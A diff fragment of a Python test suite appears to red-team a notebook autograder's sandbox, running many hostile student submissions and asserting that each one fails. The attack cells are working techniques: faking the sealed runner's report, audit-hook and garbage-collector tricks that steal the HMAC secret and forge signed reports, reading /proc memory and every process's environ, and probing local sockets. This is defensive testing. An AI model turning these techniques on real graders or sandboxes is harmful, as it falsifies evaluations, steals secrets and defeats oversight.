+    ''')),
+    Attack("seal_signal", "SIGALRM handler + setitimer: a handler gets a frame during the test",
+           WRONG + src('''
+        import signal
+        SEEN = []
+        def _on_alarm(signum, frame):
+            f = frame
+            while f is not None:
+                if "ref" in f.f_locals:
+                    SEEN.append(repr(f.f_locals["ref"])[:100])
+                f = f.f_back
+        signal.signal(signal.SIGALRM, _on_alarm)
+        signal.setitimer(signal.ITIMER_REAL, 0.05, 0.05)
+    '''), at_end=['print("SEEN", SEEN)']),
+    Attack("seal_replace_run", "autograder.sealed.run and .report replaced by fakes",
+           WRONG + src('''
+        import autograder.sealed
+        autograder.sealed.run = lambda key: None
+        autograder.sealed.report = lambda: "{}\\n" + "0" * 64
+    ''')),
+    Attack("seal_audit_hook", "sys.addaudithook(own hook): on 'autograder.fetch' the box holds "
+           "the test's code and namespace; the hook puts no-op assert_close / reference_disabled "
+           "into that namespace (after the trusted names were restored)",
+           WRONG + src('''
+        import sys, contextlib, types
+        LOOT = {"codes": [], "sources": [], "notes": []}
+        def _my_hook(event, args):
+            try:
+                if event == "autograder.fetch" and len(args) == 2 and type(args[1]) is list \\
+                        and len(args[1]) == 3:
+                    code, namespace, last = args[1]
+                    LOOT["codes"].append(code)
+                    namespace["assert_close"] = lambda *a, **k: None
+                    namespace["reference_disabled"] = lambda *a, **k: contextlib.nullcontext()
+            except Exception as e:
+                LOOT["notes"].append(repr(e)[:100])
+        sys.addaudithook(_my_hook)
+    '''), at_end=[SHOW_LOOT], forbid=("LEAKED CODE",)),
+    Attack("seal_gc_callback", "gc.callbacks + gc.set_threshold(1): a garbage collection inside "
+           "the audit hook runs the student's callback there (the hook is 'busy', so frame access "
+           "is not refused): the closures hold the HMAC secret; a forged report is signed with it",
+           WRONG + STEAL + src(r'''
+        import gc
+        def _on_gc(phase, info):
+            if phase != "start" or LOOT["candidates"]:
+                return
+            try:
+                f = sys._getframe(1)
+            except Exception:
+                return
+            _loot_frames(f)
+        gc.callbacks.append(_on_gc)
+        def _arm(info):
+            if "autograder.sealed" in (info.raw_cell or ""):
+                gc.set_threshold(1, 10 ** 9, 10 ** 9)
+        def _disarm(result):
+            gc.set_threshold(700, 10, 10)
+        get_ipython().events.register("pre_run_cell", _arm)
+        get_ipython().events.register("post_run_cell", _disarm)
+    '''), at_end=[SHOW_LOOT], forbid=("LEAKED SOURCE", "secret found: True")),
+    Attack("seal_del_in_hook", "a __del__ runs inside the audit hook: the visible test rebinds x, "
+           "so the hook drops the student's old x while it records the verdict; from there the "
+           "frames and closures give the HMAC secret; a forged report is signed with it",
+           WRONG + STEAL + src(r'''
+        class _Trap:
+            def __del__(self):
+                try:
+                    if not LOOT["candidates"]:
+                        _loot_frames(sys._getframe(1))
+                except BaseException as e:
+                    LOOT["notes"].append(repr(e)[:100])
+        x = _Trap()                 # the visible test rebinds x
+        y = _Trap()
+    '''), at_end=[SHOW_LOOT], forbid=("LEAKED SOURCE", "secret found: True")),
+    Attack("seal_procmem", "/proc/self/mem opened through a str subclass (the hook only checks "
+           "plain str / bytes / Path names), and through a child process (no audit hook) that "
+           "reads the kernel's memory: the HMAC secret and the hidden sources",
+           WRONG + STEAL + MEMSCAN + src(r'''
+        import os, subprocess, json
+        class _Name(str):
+            pass
+        try:
+            cands, snippets = memscan(os.getpid(), id(bytes), mem_path=_Name("/proc/self/mem"))
+            LOOT["candidates"] += list(cands)
+            LOOT["sources"] += snippets
+            LOOT["notes"].append("own memory: %d candidates, secret %s" % (len(cands), any(map(_is_secret, cands))))
+        except Exception as e:
+            LOOT["notes"].append("own memory: " + repr(e)[:200])
+        CHILD = MEMSCAN_SOURCE + """
+        import sys, json
+        c, s = memscan(int(sys.argv[1]), int(sys.argv[2]))
+        print(json.dumps({"candidates": [x.hex() for x in c], "snippets": s}))
+        """.replace("\n        ", "\n")
+        try:
+            r = subprocess.run([sys.executable, "-c", CHILD, str(os.getpid()), str(id(bytes))],
+                               capture_output=True, text=True, timeout=120)
+            out = json.loads(r.stdout or "{}")
+            cands = [bytes.fromhex(x) for x in out.get("candidates", [])]
+            LOOT["candidates"] += cands
+            LOOT["sources"] += out.get("snippets", [])
+            LOOT["notes"].append("child: %d candidates, secret %s, %s" % (
+                len(cands), any(map(_is_secret, cands)), r.stderr[-300:]))
+        except Exception as e:
+            LOOT["notes"].append("child: " + repr(e)[:200])
+    '''), at_end=[SHOW_LOOT], forbid=("LEAKED SOURCE", "secret found: True")),
+
+    # 7. escaping the sandbox -------------------------------------------------------------------
+    Attack("escape_probe", "every /proc/*/environ (open, str subclass, `cat`), the host's TCP "
+           "server on 127.0.0.1 and an abstract unix socket, the grader's pid",
+           WRONG + src(r'''
+        import os, socket, subprocess, glob
+        class _Name(str):
+            pass
+        for p in sorted(glob.glob("/proc/[0-9]*")):
+            for how in ("open", "str subclass", "cat"):
+                try:
+                    if how == "open":
+                        data = open(p + "/environ", "rb").read()
+                    elif how == "str subclass":
+                        data = open(_Name(p + "/environ"), "rb").read()
+                    else:
+                        data = subprocess.run(["cat", p + "/environ"], capture_output=True,
+                                              timeout=10).stdout
+                    print("ENVIRON", p, how, data.replace(b"\0", b" ")[:3000])
+                except Exception as e:
+                    print("environ", p, how, type(e).__name__)
+        print("os.environ", dict(os.environ))
+        for host in ("127.0.0.1", "localhost", "::1", socket.gethostname()):
+            try:
+                s = socket.create_connection((host, @PORT@), timeout=3)
+                s.sendall(b"tamper @MARKER@")
+                s.close()
+                print("NETWORK" + "_REACHED", host)
+            except Exception as e:
+                print("network refused", host, type(e).__name__)
+        try:
+            s = socket.socket(socket.AF_UNIX)
+            s.connect("\0@UNIX@")
+            s.sendall(b"tamper")
+            print("UNIX" + "_REACHED")
+        except Exception as e:
+            print("unix socket refused", type(e).__name__)
+        try:
+            os.kill(@HOSTPID@, 0)
+            if "pytest" in open("/proc/@HOSTPID@/cmdline").read():
+                print("HOSTPID" + "_VISIBLE")
+        except Exception as e:
+            print("grader pid not visible", type(e).__name__)
+        print("visible pids", sorted(int(p.rsplit("/", 1)[1]) for p in glob.glob("/proc/[0-9]*")))
+    '''), forbid=("NETWORK_REACHED", "UNIX_REACHED", "HOSTPID_VISIBLE"),
+           require=("network refused", "visible pids")),
+
+    # 8. robustness -------------------------------------------------------------------------------
+    Attack("robust_not_json", "a notebook file that is not JSON", raw="this is {not a notebook\n",
+           earned=E_NONE, tamper=False),
+    Attack("robust_million_cells", "a notebook with 1,000,000 cells (about 50 MB)",
+           build=_million_cells, earned=E_NONE, tamper=False),
+    Attack("robust_print_100mb", "the solution cell prints 100 MB",
+           "for _ in range(100):\n    print('x' * (1 << 20))\n" + GOOD,
+           earned=E_GOOD, tamper=False),
+    Attack("robust_infinite_loop", "an infinite loop in the solution cell",
+           "while True:\n    pass\n" + GOOD, earned=E_NONE, tamper=False),
+    Attack("robust_os_exit", "os._exit(1) in the solution cell",
+           GOOD + "import os\nos._exit(1)\n", earned=E_NONE, tamper=False),
+    Attack("robust_alloc_2g", "a 2 GiB allocation before scale is defined",
+           "x = bytearray(2 << 30)\n" + GOOD, earned=E_NONE, tamper=False),
+    Attack("struct_fake_cells", "extra cells claiming to be graded (a duplicate 99_scale_test id, "
+           "an unknown 99_bonus worth 100, a second 99_asset_test), the solution cell marked "
+           "graded with 50 points", build=_notebook_with_fake_cells, tamper=False),
+    Attack("struct_no_tests", "the test cells deleted", build=_notebook_without_tests,
+           earned=E_NONE, tamper=False),
+]
+for _a in ATTACKS:
+    if _a.solution and "MEMSCAN_SOURCE" in _a.solution:
+        _a.solution = _a.solution.replace("MEMSCAN_SOURCE", repr(MEMSCAN))
+BY_NAME = {a.name: a for a in ATTACKS}
+assert len(BY_NAME) == len(ATTACKS)
+_ONLY = [x for x in os.environ.get("TAMPER_ONLY", "").split(",") if x]
+SELECTED = [a for a in ATTACKS if not _ONLY or a.name in _ONLY]
+
+
+# --- the course, the servers, the batch ---------------------------------------------------------
+def make_course(root: Path) -> Course:
+    root.mkdir(parents=True, exist_ok=True)
+    shutil.copy2(REPO / "nbgrader_config.py", root / "nbgrader_config.py")
+    write_dummy_lab(root / "labs" / DUMMY)
+    course = Course(root)
+    assert course.release() == [DUMMY]
+    return course
+
+
+class Listener:
+    """A TCP server on 127.0.0.1 and an abstract unix socket; records every connection."""
+
+    def __init__(self, unix_name: str):
+        self.hits: list[str] = []
+        self.tcp = socket.socket()
+        self.tcp.bind(("127.0.0.1", 0))
+        self.tcp.listen(16)
+        self.port = self.tcp.getsockname()[1]
+        self.unix = socket.socket(socket.AF_UNIX)
+        self.unix.bind("\0" + unix_name)
+        self.unix.listen(16)
+        self.stop = False
+        for s in (self.tcp, self.unix):
+            s.settimeout(0.5)
+            threading.Thread(target=self._serve, args=(s,), daemon=True).start()
+
+    def _serve(self, s):
+        while not self.stop:
+            try:
+                conn, addr = s.accept()
+            except (socket.timeout, OSError):
+                continue
+            self.hits.append(f"{s.family.name} {addr}")
+            conn.close()
+
+    def close(self):
+        self.stop = True
+        time.sleep(0.6)
+        self.tcp.close()
+        self.unix.close()
+
+
+def page_text(raw: str) -> str:
+    """HTML as the reader sees it: tags dropped, entities decoded."""
+    return html.unescape(re.sub(r"<[^>]+>", "", raw))
+
+
+def outputs_text(nb_path: Path) -> str:
+    """Everything the cells of an executed / autograded notebook output (not their sources)."""
+    if not nb_path.is_file():
+        return ""
+    try:
+        nb = json.loads(nb_path.read_text(errors="replace"))
+    except ValueError:
+        return ""
+    parts = []
+    for cell in nb.get("cells", []):
+        for o in cell.get("outputs", []) or []:
+            parts.append(json.dumps(o))
+            parts.append("".join(o.get("text", "")) if isinstance(o.get("text"), (list, str))
+                         else "")
+            parts.append(str(o.get("evalue", "")))
+            for v in (o.get("data") or {}).values():
+                parts.append("".join(v) if isinstance(v, list) else str(v))
+    return "\n".join(parts)
+
+
+@dataclass
+class Graded:
+    course: Course
+    records: dict                 # student -> GradeRecord
+    feedback: dict                # student -> page text ("" when there is none)
+    outputs: dict                 # student -> outputs of the autograded notebook
+    csv_text: str
+    log: list
+    seconds: float
+    after: dict = field(default_factory=dict)      # student -> scores re-read at the end
+
+
+def grade_batch(course: Course, students: dict[str, str]) -> Graded:
+    """Write DIR/<student>/99_dummy/99_dummy.ipynb for each student (its text), grade them."""
+    subs = course.root / "submissions"
+    for student, text in students.items():
+        d = subs / student / DUMMY
+        d.mkdir(parents=True)
+        (d / f"{DUMMY}.ipynb").write_text(text)
+    log: list[str] = []
+    t0 = time.monotonic()
+    recs = grade_submissions(course, subs, workers=2, cell_timeout=20, notebook_timeout=90,
+                             mem_gb=2, log=log.append)
+    seconds = time.monotonic() - t0
+    records = {r.student: r for r in recs}
+    feedback, outputs = {}, {}
+    for student in students:
+        page = course.feedback(student, DUMMY) / f"{DUMMY}.html"
+        feedback[student] = page_text(page.read_text(errors="replace")) if page.is_file() else ""
+        outputs[student] = outputs_text(course.autograded(student, DUMMY) / f"{DUMMY}.ipynb")
+    path = course.build / "grades.csv"
+    csv_text = path.read_text() if path.is_file() else ""
+    return Graded(course, records, feedback, outputs, csv_text, log, seconds)
+
+
+def surviving_processes(marker: str, places: list[Path]) -> list[str]:
+    left = []
+    for proc in psutil.process_iter(["pid", "cmdline", "cwd", "status"]):
+        info = proc.info
+        if info.get("status") == psutil.STATUS_ZOMBIE or info["pid"] == os.getpid():
+            continue
+        cmd = " ".join(info.get("cmdline") or [])
+        cwd = info.get("cwd") or ""
+        if marker in cmd or any(cwd.startswith(str(p)) for p in places):
+            left.append(f"{info['pid']} cwd={cwd} cmd={cmd[:200]}")
+    return left
+
+
+@dataclass
+class Run:
+    marker: str
+    secret: str
+    alone: Graded
+    batch: Graded
+    listener_hits: list
+    survivors: list
+    host_files: list
+    roots: list
+
+
+@pytest.fixture(scope="module")
+def run(tmp_path_factory):
+    why = sandbox_unavailable_reason()
+    if why:
+        pytest.skip(f"no sandbox here: {why}")
+    marker = "tmpr" + secrets.token_hex(6)
+    secret = "GS" + secrets.token_hex(16)
+    # the jobs' temporary directories (and so every kernel's working directory) in a folder of
+    # this test, short enough for the kernels' ipc socket paths
+    jobtmp = Path(tempfile.mkdtemp(prefix="tmpr", dir="/tmp"))
+    alone_root = tmp_path_factory.mktemp("alone")
+    batch_root = tmp_path_factory.mktemp("batch")
+    roots = [str(alone_root), str(batch_root), str(jobtmp)]
+    listener = Listener("tamper_" + marker)
+    mp = pytest.MonkeyPatch()
+    mp.setenv("GRADER_SECRET", secret)
+    mp.setenv("TMPDIR", str(jobtmp))
+    mp.setattr(tempfile, "tempdir", str(jobtmp))
+    try:
+        alone_course, batch_course = make_course(alone_root), make_course(batch_root)
+        released = nbformat.read(str(alone_course.release_dir(DUMMY) / f"{DUMMY}.ipynb"),
+                                 as_version=4)
+
+        def notebook(attack: Attack | None) -> str:
+            if attack is None:
+                nb = nbformat.from_dict(json.loads(json.dumps(released)))
+                nb.cells[2].source = GOOD
+                return nbformat.writes(nb)
+            if attack.raw is not None:
+                return attack.raw
+            if attack.build is not None:
+                return attack.build(released)
+            nb = nbformat.from_dict(json.loads(json.dumps(released)))
+            subst = {"@MARKER@": marker, "@ROOTS@": repr(roots), "@PORT@": str(listener.port),
+                     "@UNIX@": "tamper_" + marker, "@HOSTPID@": str(os.getpid())}
+
+            def fill(text):
+                for k, v in subst.items():
+                    text = text.replace(k, v)
+                return text
+            if attack.solution is not None:
+                nb.cells[2].source = fill(attack.solution)
+            for i, extra in enumerate(attack.after):
+                nb.cells.insert(3 + i, new_code_cell(fill(extra)))
+            for extra in attack.at_end:
+                nb.cells.append(new_code_cell(fill(extra)))
+            return nbformat.writes(nb)
+
+        # the honest submission alone, in a course of its own; then the batch
+        alone = grade_batch(alone_course, {HONEST: notebook(None)})
+        batch = grade_batch(batch_course, {HONEST: notebook(None),
+                                           **{a.name: notebook(a) for a in SELECTED}})
+        survivors = surviving_processes(marker, [alone_root, batch_root, jobtmp])
+        time.sleep(1)          # anything left would now have had time to write
+        for student in batch.records:
+            batch.after[student] = _scores(batch.course.scores(student, DUMMY))
+        host_files = [str(p) for p in _host_marker_files(marker, roots)]
+        yield Run(marker, secret, alone, batch, list(listener.hits), survivors, host_files, roots)
+    finally:
+        mp.undo()
+        listener.close()
+        shutil.rmtree(jobtmp, ignore_errors=True)
+
+
+def _host_marker_files(marker: str, roots: list[str]) -> list[Path]:
+    places = [Path("/tmp"), REPO, REPO / "autograder", REPO / "minillm", Path.home(),
+              *[Path(r) for r in roots]]
+    import site
+    places += [Path(p) for p in site.getsitepackages()]
+    found = []
+    for place in places:
+        try:
+            found += [p for p in place.iterdir() if marker in p.name]
+        except OSError:
+            pass
+    return found
+
+
+def _scores(cells) -> dict:
+    return {c.grade_id: c.score for c in cells}
+
+
+def describe(rec) -> str:
+    if rec is None:
+        return "no record"
+    return f"{rec.student}: {rec.status}\n" + "\n".join(
+        f"  {c.grade_id}: {c.score} / {c.max_score} {c.errors}" for c in rec.cells)
+
+
+def hidden_leaks(text: str) -> list[str]:
+    return [t for t in HIDDEN_TOKENS if t in text]
+
+
+# --- the batch as a whole -------------------------------------------------------------------------
+def test_batch_has_one_record_per_submission(run):
+    print(f"\nalone: {run.alone.seconds:.0f} s, batch of {len(run.batch.records)}: "
+          f"{run.batch.seconds:.0f} s")
+    for line in run.batch.log[-len(SELECTED) - 6:]:
+        print(line)
+    assert sorted(run.batch.records) == sorted([HONEST] + [a.name for a in SELECTED])
+    assert list(run.alone.records) == [HONEST]
+
+
+def test_honest_alone_and_in_batch_get_the_same_grade_and_feedback(run):
+    alone, batch = run.alone.records[HONEST], run.batch.records[HONEST]
+    assert alone.status == "ok", describe(alone)
+    assert _scores(alone.cells) == {SCALE_TEST: 2.0, ASSET_TEST: 1.0}, describe(alone)
+    assert batch.status == alone.status, describe(batch)
+    assert _scores(batch.cells) == _scores(alone.cells), describe(batch)
+    assert run.batch.feedback[HONEST] and \
+        _normalize(run.batch.feedback[HONEST]) == _normalize(run.alone.feedback[HONEST])
+
+
+def _normalize(text: str) -> str:
+    text = re.sub(r"\d{4}-\d\d-\d\d[ T][\d:.]+", "<time>", text)
+    return re.sub(r"\s+", " ", text).strip()
+
+
+def test_gradebook_after_the_batch_holds_what_was_recorded(run):
+    changed = {s: (_scores(r.cells), run.batch.after.get(s)) for s, r in run.batch.records.items()
+               if _scores(r.cells) != run.batch.after.get(s)}
+    assert not changed
+
+
+def test_no_process_survives_the_batch(run):
+    assert not run.survivors
+
+
+def test_nothing_written_outside_the_sandbox_and_no_connection(run):
+    assert not run.host_files
+    assert not run.listener_hits
+
+
+def test_no_hidden_test_and_no_grader_secret_in_any_feedback_or_csv(run):
+    bad = {}
+    for graded in (run.alone, run.batch):
+        for student, text in graded.feedback.items():
+            leaks = hidden_leaks(text) + (["GRADER_SECRET"] if run.secret in text else [])
+            if leaks:
+                bad[student] = leaks
+        assert not hidden_leaks(graded.csv_text) and run.secret not in graded.csv_text
+    assert not bad
+
+
+# --- each attack ------------------------------------------------------------------------------------
+def _param(a: Attack):
+    marks = [pytest.mark.xfail(reason=f"documented limit: {a.documented}", strict=False)] \
+        if a.documented else []
+    return pytest.param(a.name, marks=marks, id=a.name)
+
+
+@pytest.mark.parametrize("name", [_param(a) for a in SELECTED])
+def test_attack(run, name):
+    attack = BY_NAME[name]
+    rec = run.batch.records.get(name)
+    out = run.batch.outputs.get(name, "")
+    print(f"\n{name}: {attack.what}\n{describe(rec)}")
+    assert rec is not None, "no record: the batch lost this submission"
+    # the attack ran (it is not vacuous) ...
+    missing = [s for s in attack.require if s not in out]
+    assert not missing, f"the attack did not run as written: {missing} not in its outputs\n" \
+                        f"{out[-3000:]}"
+    # ... and what it tried did not work
+    seen = [s for s in attack.forbid if s in out]
+    assert not seen, f"{name} succeeded: {seen} in its outputs\n{out[-4000:]}"
+    scores = _scores(rec.cells)
+    assert set(scores) == {SCALE_TEST, ASSET_TEST}, describe(rec)
+    over = {gid: (scores[gid], most) for gid, most in attack.earned.items()
+            if (scores.get(gid) or 0) > most}
+    assert not over, f"{name} earned points it did not earn: {over}\n{describe(rec)}"
+    if attack.tamper:
+        scale_cell = next(c for c in rec.cells if c.grade_id == SCALE_TEST)
+        assert rec.status.startswith("tampered") or (scale_cell.score == 0 and scale_cell.errors), \
+            describe(rec)
+    # nobody else is affected, nothing leaked
+    honest = run.batch.records[HONEST]
+    assert _scores(honest.cells) == _scores(run.alone.records[HONEST].cells), describe(honest)
+    assert not hidden_leaks(run.batch.feedback.get(name, "")), \
+        f"hidden test text in {name}'s feedback: {hidden_leaks(run.batch.feedback[name])}"
+    assert run.secret not in out and run.secret not in run.batch.feedback.get(name, "")
+    assert not [p for p in run.host_files if name in p or run.marker in p]
